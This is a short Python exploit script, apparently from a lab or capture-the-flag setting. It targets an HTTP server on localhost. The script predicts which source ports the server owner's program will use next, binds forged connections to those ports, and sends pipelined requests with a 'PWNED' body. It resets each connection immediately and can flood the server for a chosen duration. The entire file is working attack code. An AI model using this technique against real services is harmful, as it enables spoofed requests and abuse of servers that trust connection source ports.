# Requests whose connection is reset as soon as they are sent, from source ports that the owner's program may
# get next. PORT PAYLOAD, then source ports, or "flood" SECONDS.
import socket, struct, sys, time

server, payload = ('127.0.0.1', int(sys.argv[1])), sys.argv[2]
LINGER = struct.pack('ii', 1, 0)

def requests(name):
    # The second one keeps the server from reading on before it has carried out the first.
    return ''.join(
        line + ' HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\n\r\nPWNED\n'
        for line in (payload.replace('@', name), payload.replace('@', name + '-second'))
    ).encode()

def forge(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
    try:
        if port:
            s.bind(('127.0.0.1', port))
        s.connect(server)
        s.sendall(requests(str(s.getsockname()[1])))
    except OSError:
        pass
    s.close()

if sys.argv[3] == 'flood':
    end = time.monotonic() + float(sys.argv[4])
    count = 0
    while time.monotonic() < end:
        # The owner's next connection gets a port that is a little above.
        s = socket.create_connection(server)
        base = s.getsockname()[1]
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
        s.close()
        for port in range(base + 2, base + 18, 2):
            forge(port)
            count += 1
        time.sleep(0.002)
    print(count)
else:
    for port in sys.argv[3:]:
        forge(int(port))
